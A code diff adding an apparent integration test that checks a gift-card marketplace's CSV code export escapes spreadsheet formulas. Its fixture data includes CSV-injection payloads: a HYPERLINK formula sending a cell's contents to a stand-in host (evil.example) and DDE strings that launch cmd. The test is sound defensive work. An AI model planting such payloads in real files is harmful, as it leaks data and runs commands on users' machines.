@@ -1,6 +1,6 @@
 import { randomUUID } from 'node:crypto';
 import { parse } from 'csv-parse/sync';
-import { created, marketplace, startSystem, type Account, type ApiResponse, type JsonBody, type Marketplace, type SystemHarness } from '@kami/testing';
+import { CODE_FORMAT, created, marketplace, randomCode, startSystem, type Account, type ApiResponse, type JsonBody, type Marketplace, type SystemHarness } from '@kami/testing';
 
 /*
  * An order's codes as its buyer reads them, through the gateway, with every service running for
@@ -219,6 +219,54 @@ describe('GET /api/v1/orders/{id}/codes and codes.csv', () => {
       expect([path, response.status, response.body?.code]).toEqual([path, 409, 'codes_in_stock']);
     }
     expect(await deliveryDb(`SELECT count(*)::int AS n FROM delivered_code WHERE order_id = $1 AND first_revealed_at IS NOT NULL`, [order.id])).toEqual([{ n: 0 }]);
+  });
+
+  it('writes codes.csv safe to open in a spreadsheet (a formula in a serial or PIN is text, not run), while ?format=raw and the JSON keep the exact values', async () => {
+    // A product whose codes carry an optional, unpatterned PIN and a serial: both are the supplier's free text.
+    // (The vault trims what it stores, so a leading tab or CR never arrives here; the platform's unit test covers those.)
+    const brandId = await m.createBrand();
+    const formulaSupplier = await m.authorisedSupplier(brandId, 'Formula Cards');
+    const product = await created(
+      h.gateway.request('POST', '/api/v1/catalog/products', {
+        token: operator.token,
+        json: { name: `Formula ¥100 ${randomUUID().slice(0, 6)}`, brandId, categoryCode: 'game-cards.pc', faceValue: 10000, region: 'CN', codeFormat: { ...CODE_FORMAT, pin: 'optional' } },
+      }),
+    );
+    const attack = { code: randomCode(), serial: '=HYPERLINK("http://evil.example/?x="&A1,"Redeem")', pin: '@SUM(1+1)*cmd|\' /C calc\'!A0' };
+    const lines = [attack, { code: randomCode(), serial: '+1+1', pin: '-2+3' }, { code: randomCode(), serial: '=1+1', pin: '=cmd|\' /C calc\'!A0' }, { code: randomCode(), serial: '-42', pin: 'PLAIN' }];
+    const { offer } = await m.offerWithCodes(formulaSupplier, product.id, [{ minQuantity: 1, unitPrice: UNIT_PRICE }], lines);
+    uploaded.push(...lines.map((l) => l.code));
+    const merchant = await m.fundedMerchant(100_000);
+    const placed = await created(m.placeOrder(merchant, { lines: [{ offerId: offer.id, quantity: lines.length }] }));
+    const order = await m.untilDelivered(merchant, placed.id);
+    const exact = new Map(lines.map((l) => [l.code, l]));
+
+    // The default download: every cell that a spreadsheet would run starts with an apostrophe; plain numbers stay numbers.
+    const csv = await h.gateway.request('GET', `/api/v1/orders/${order.id}/codes.csv`, { token: merchant.token });
+    expect(csv.status).toBe(200);
+    const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
+    expect(rows).toHaveLength(lines.length);
+    for (const row of rows) {
+      const line = exact.get(row.code)!;
+      const safe = (value: string): string => (/^[=+\-@\t\r]/.test(value) && !/^[+-]?\d+(\.\d+)?$/.test(value) ? `'${value}` : value);
+      expect([row.serial, row.pin]).toEqual([safe(line.serial), safe(line.pin)]);
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
+    }
+    expect(rows.find((r) => r.code === attack.code)).toMatchObject({ serial: `'${attack.serial}`, pin: `'${attack.pin}` });
+
+    // The machine-readable forms keep every value exactly: the raw CSV and the JSON.
+    const raw = await h.gateway.request('GET', `/api/v1/orders/${order.id}/codes.csv?format=raw`, { token: merchant.token });
+    expect(raw.status).toBe(200);
+    expect(raw.headers.get('content-type')).toMatch(/^text\/csv/);
+    expect(raw.headers.get('content-disposition')).toBe(`attachment; filename="order-${order.id}-codes.raw.csv"`);
+    const rawRows = parse(raw.text, { columns: true }) as Record<string, string>[];
+    expect(rawRows.map((r) => [r.code, r.pin, r.serial]).sort()).toEqual(lines.map((l) => [l.code, l.pin, l.serial]).sort());
+    const json = await codesOf(merchant, order.id);
+    expect(json.body.items.map((i: CodeItem & { pin: string; serial: string }) => [i.code, i.pin, i.serial]).sort()).toEqual(lines.map((l) => [l.code, l.pin, l.serial]).sort());
+
+    // Any other format is refused like any bad query.
+    const other = await h.gateway.request('GET', `/api/v1/orders/${order.id}/codes.csv?format=excel`, { token: merchant.token });
+    expect([other.status, other.contentType, other.body?.code]).toEqual([400, 'application/problem+json', 'validation_failed']);
   });
 
   it("never writes a code's plaintext to delivery's or the gateway's logs", () => {
